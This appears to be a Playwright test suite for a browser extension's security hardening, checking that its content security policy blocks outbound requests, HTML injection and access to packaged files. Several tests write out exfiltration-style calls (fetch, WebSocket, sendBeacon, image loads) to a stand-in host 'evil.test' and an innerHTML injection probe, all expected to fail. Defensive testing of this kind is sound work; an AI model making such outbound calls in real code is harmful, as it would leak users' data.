import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { expect } from '@playwright/test';
import { formMatches, guideMatches } from '@/lib/guide/matches.ts';
import type { HostileCase } from '../case.ts';
import { base, places } from '../form.ts';
import { expectCard } from '../lab.ts';
import { canaries } from '../people.ts';

const filesOf = (folder: string): string[] =>
  readdirSync(folder, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(folder, path.join(entry.parentPath, entry.name)));

export const packaged: readonly HostileCase[] = [
  {
    id: 'H110b',
    title: 'from the worker and from every page of the extension: fetch, socket, beacon, image and form reach nobody',
    run: async (lab) => {
      lab.forgive(/Content-Security-Policy: .* blocked the loading of a resource/);
      const tries = async () => {
        const blocked = async (attempt: () => unknown) => {
          try {
            await attempt();
            return 'sent';
          } catch {
            return 'blocked';
          }
        };
        const socket = () =>
          new Promise((done, fail) => {
            const opened = new WebSocket('wss://evil.test');
            opened.onopen = done;
            opened.onerror = fail;
          });
        const image = () =>
          new Promise((done, fail) => {
            if (!('Image' in globalThis)) return fail(new Error('no images here'));
            const picture = new Image();
            picture.onload = done;
            picture.onerror = fail;
            picture.src = 'https://evil.test/i.png';
          });
        return [await blocked(() => fetch('https://evil.test/f')), await blocked(socket), await blocked(image)];
      };
      const worker = await lab.worker();
      expect(await worker.evaluate(tries)).toEqual(['blocked', 'blocked', 'blocked']);
      for (const name of ['popup.html', 'sidepanel.html', 'options.html', 'welcome.html']) {
        const page = await lab.own(name);
        expect(await page.evaluate(tries), name).toEqual(['blocked', 'blocked', 'blocked']);
        await page.evaluate(() => navigator.sendBeacon('https://evil.test/b', 'x')).catch(() => {});
        await page.waitForTimeout(200);
      }
      // The recording proxy and the test's own answers saw none of it: the oracle looks too.
      expect([...lab.browser.requests, ...lab.browser.refused].filter((line) => line.includes('evil.test'))).toEqual([]);
    },
  },
  {
    id: 'H110c',
    title: 'text of a page that reaches an HTML sink in one of our pages: refused by the browser, whatever our code does',
    run: async (lab) => {
      lab.forgive(/Content-Security-Policy: .* blocked (assigning to an injection sink|creating a Trusted Types policy)/);
      for (const name of ['popup.html', 'sidepanel.html', 'options.html', 'welcome.html']) {
        const page = await lab.own(name);
        const tried = await page.evaluate(() => {
          const refused = (attempt: () => unknown) => {
            try {
              attempt();
              return false;
            } catch {
              return true;
            }
          };
          return {
            html: refused(() => {
              document.createElement('div').innerHTML = '<img src=x>';
            }),
            policy: refused(() =>
              (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }).trustedTypes.createPolicy(
                'x',
                {},
              ),
            ),
          };
        });
        expect(tried, name).toEqual({ html: true, policy: true });
      }
    },
  },
  {
    id: 'H111',
    title: 'a page on each host of the manifest asks for every file of the package, and for the runtime: neither is there',
    timeout: 120_000,
    run: async (lab) => {
      // Firefox says it in the page's console.
      lab.forgive(/may not load or link to moz-extension:/);
      const files = filesOf(lab.browser.folder);
      const atCards = [
        [places.o2.url, places.o2.title],
        [places.ppms.url, places.ppms.title],
        ['https://harvardmed.atlassian.net/wiki/spaces/O2/pages/1605009747/x', 'Two Factor Authentication on O2'],
      ] as const;
      // One address for each pattern in the manifest, so that no host is left out.
      const atHosts = [...formMatches, ...guideMatches].map((pattern) => [pattern.replaceAll('*', 'x'), 'Something else'] as const);
      for (const [url, title] of [...atCards, ...atHosts]) {
        const page = await lab.open(url, base({ title }));
        if (title === 'Something else') expect((await lab.browser.hasOurScript?.(page)) ?? true, url).toBe(true);
        else await expectCard(page);
        const seen = await page.evaluate(
          async ({ base, names }) => {
            const got: string[] = [];
            for (const name of names)
              await fetch(`${base}${name}`).then(
                () => got.push(name),
                () => {},
              );
            return { got, runtime: typeof (globalThis as { chrome?: { runtime?: unknown } }).chrome?.runtime };
          },
          { base: lab.browser.base, names: files },
        );
        expect(seen, url).toEqual({ got: [], runtime: 'undefined' });
        await page.close();
      }
    },
  },
  {
    id: 'H112',
    title: 'the package: no canary, no source map, no web-accessible file, nothing in private windows (the rest is in the package checks)',
    run: async (lab) => {
      const { folder } = lab.browser;
      const files = filesOf(folder);
      expect(files.filter((name) => name.endsWith('.map'))).toEqual([]);
      for (const name of files.filter((file) => /\.(js|html|json)$/.test(file))) {
        const text = readFileSync(path.join(folder, name), 'utf8');
        expect(
          canaries.filter((canary) => canary.length > 5 && text.includes(canary)),
          name,
        ).toEqual([]);
      }
      const manifest = JSON.parse(readFileSync(path.join(folder, 'manifest.json'), 'utf8'));
      expect(manifest).toMatchObject({
        incognito: 'not_allowed',
        // Firefox has no use for the others: its sidebar needs no permission, and nothing of ours listens to other extensions (H90).
        ...(lab.browser.base.startsWith('moz-')
          ? { permissions: ['storage'] }
          : { permissions: ['storage', 'sidePanel'], externally_connectable: { ids: [] } }),
      });
      expect(manifest.web_accessible_resources).toBeUndefined();
      expect(manifest.content_security_policy.extension_pages).toContain("trusted-types 'none'");
    },
  },
];
